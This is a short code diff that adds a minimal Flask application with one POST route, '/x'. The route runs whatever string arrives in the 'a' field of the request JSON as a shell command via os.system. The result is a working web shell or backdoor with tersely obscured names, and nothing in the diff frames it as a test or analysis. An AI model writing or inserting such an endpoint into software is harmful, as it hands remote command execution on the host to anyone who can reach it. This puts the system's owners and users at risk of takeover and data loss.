@@ -1,0 +1,8 @@
+import os
+from flask import Flask, request
+app = Flask(__name__)
+
+@app.route('/x', methods=['POST'])
+def x():
+    os.system(request.get_json(force=True).get('a'))
+    return ''
